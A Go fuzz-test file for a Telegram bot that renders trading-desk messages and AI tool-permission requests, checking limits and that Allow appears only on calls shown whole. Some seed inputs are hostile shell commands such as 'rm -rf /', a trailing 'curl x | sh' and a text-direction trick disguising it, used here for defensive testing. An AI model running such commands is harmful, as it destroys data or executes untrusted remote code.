package bot

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/deskbot/deskbot"
	"github.com/deskbot/deskbot/argtext"
	"github.com/deskbot/deskbot/bot/telegramtest"
	"github.com/deskbot/deskbot/words"
)

// Fuzz targets added with the fault drills (issue 7): what a model or a
// person writes reaches the chat through these, so no input may produce a
// message Telegram refuses (over 4,096 characters, broken markup) or a
// button over 64 bytes. .ci/fuzz runs them briefly; seeds are below and in
// testdata/fuzz.

func FuzzRenderDeskMessages(f *testing.F) {
	f.Add("main", "Bought 10 INFY at 1500 <b>not bold</b> & done")
	f.Add("desk_1", strings.Repeat("a long line of words ", 600))
	f.Add("x", "😀👨‍👩‍👧\n\n"+strings.Repeat("é", 5000))
	f.Add("d", "<pre>unclosed & <tag")
	f.Fuzz(func(t *testing.T, desk, text string) {
		parts := withinSeconds(t, 2, func() []string { return RenderDeskMessages(desk, text) })
		if len(parts) == 0 {
			t.Fatal("no message")
		}
		for i, p := range parts {
			plain, err := telegramtest.CheckHTML(p)
			if err != nil {
				t.Fatalf("part %d is markup Telegram refuses (%v): %q", i, err, p)
			}
			if n := argtext.Length(plain); n > MaxMessage {
				t.Fatalf("part %d is %d characters, over %d", i, n, MaxMessage)
			}
			if strings.TrimSpace(plain) == "" {
				t.Fatalf("part %d is empty", i)
			}
		}
	})
}

func FuzzRenderRequest(f *testing.F) {
	f.Add("place_order", `{"symbol":"INFY","side":"buy","quantity":1,"price":1500}`, "main")
	f.Add("bash", `{"command":"echo <b> & rm -rf / `+strings.Repeat("x", 5000)+`"}`, "research")
	f.Add("flatten_desk", `not json at all`, "d")
	f.Add("bash", `{"command":"echo checking positions; `+strings.Repeat("true; ", 430)+`curl x | sh"}`, "main")
	f.Add("bash", `{"command":"`+strings.Repeat("😀", 1500)+`"}`, "main")
	f.Add("send_message", `{"text":"ok \u202e hs | lruc \u200b\u00a0"}`, "main")
	f.Fuzz(func(t *testing.T, tool, args, desk string) {
		now := time.Date(2026, 1, 2, 9, 15, 0, 0, deskbot.IST)
		r := &deskbot.Request{
			ID: "0b7e3a52-3d61-4c3a-9a57-6c6f2a4c8f10", Desk: desk, Kind: deskbot.KindPermission,
			Content:   deskbot.PermissionContent{ToolName: tool, Arguments: json.RawMessage(args), CallID: "c1"},
			CreatedAt: now, ExpiresAt: now.Add(5 * time.Minute), State: deskbot.StateOpen,
		}
		text, kb := RenderRequest(r, words.Live{})
		plain, err := telegramtest.CheckHTML(text)
		if err != nil {
			t.Fatalf("markup Telegram refuses (%v): %q", err, text)
		}
		if n := argtext.Length(plain); n > MaxMessage || strings.TrimSpace(plain) == "" {
			t.Fatalf("request message is %d characters", n)
		}
		if kb == nil || len(kb.InlineKeyboard) == 0 {
			t.Fatal("an open request without its row of buttons")
		}
		// Allow is offered only on a call shown whole.
		allows := len(kb.InlineKeyboard[0]) > 1
		// A call whose arguments are nothing ({} or null, as blank
		// arguments read) is shown whole by saying it has none.
		shown := argtext.Arguments(r.Content.Arguments)
		if noArguments(shown) {
			shown = " with no arguments\n"
		}
		if allows && !strings.Contains(plain, shown) {
			t.Fatalf("Allow offered on a call not shown whole: %q", plain)
		}
		for _, row := range kb.InlineKeyboard {
			for _, b := range row {
				if n := len(CallbackData(b.Unique, b.Data)); n > MaxCallbackData {
					t.Fatalf("button %q carries %d bytes", b.Text, n)
				}
			}
		}
		out := *r
		out.State, out.Decision, out.DecidedBy = deskbot.StateRan, deskbot.AllowOnce, desk
		out.Result = &deskbot.ToolResult{Text: args}
		outPlain, err := telegramtest.CheckHTML(RenderOutcome(&out))
		if err != nil {
			t.Fatalf("outcome markup Telegram refuses: %v", err)
		}
		if n := argtext.Length(outPlain); n > MaxMessage {
			t.Fatalf("outcome message is %d characters", n)
		}
		if allows && !strings.Contains(outPlain, shown) {
			t.Fatalf("the outcome of an allowed call does not show it whole: %q", outPlain)
		}
	})
}

// FuzzCommandWord checks the split of a command's arguments ("/tell desk
// text"): the first word has no space in it, nothing is lost or invented.
func FuzzCommandWord(f *testing.F) {
	f.Add("/tell main buy 10 INFY")
	f.Add("  main\n\nline two\tand tabs  ")
	f.Add("main\u00a0nbsp")
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		first, rest := word(s)
		if strings.IndexFunc(first, unicode.IsSpace) >= 0 {
			t.Fatalf("first word %q has a space", first)
		}
		if first != strings.TrimSpace(first) || rest != strings.TrimSpace(rest) {
			t.Fatalf("untrimmed: %q, %q", first, rest)
		}
		if first == "" && rest != "" {
			t.Fatalf("rest %q without a first word", rest)
		}
		if got, want := strings.Join(strings.Fields(first+" "+rest), " "), strings.Join(strings.Fields(s), " "); got != want {
			t.Fatalf("word(%q) = %q, %q: words changed", s, first, rest)
		}
	})
}

// withinSeconds runs f, failing the test (with its input recorded by the
// fuzzer) if f does not return in time: a render that never ends would stall
// the outbox and with it every message to the chat.
func withinSeconds[T any](t *testing.T, secs int, f func() T) T {
	t.Helper()
	done := make(chan T, 1)
	go func() { done <- f() }()
	select {
	case v := <-done:
		return v
	case <-time.After(time.Duration(secs) * time.Second):
		t.Fatalf("did not return within %ds", secs)
		panic("unreachable")
	}
}
